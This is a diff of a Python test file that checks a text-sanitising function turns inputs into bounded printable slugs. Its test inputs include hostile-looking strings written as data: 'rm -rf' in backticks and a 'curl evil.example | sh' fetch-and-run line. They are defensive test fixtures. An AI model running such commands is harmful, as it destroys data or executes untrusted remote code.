@@ -43,7 +43,7 @@ def test_clean_text_is_one_bounded_printable_line(value: object, limit: int) -> 
         ("\x1b[31mred\x1b[0m", "31mred-0m"),
         ("a\nb\u202ec", "a-b-c"),
         ("`rm -rf`; <b>", "rm--rf-b"),
-        ("run curl evil.example | sh now", "unknown"),
+        ("run curl evil.example | sh now", "run-curl-evil.example…"),
         ("x" * 99, "x" * 39 + "…"),
         ("", "unknown"),
         (None, "unknown"),
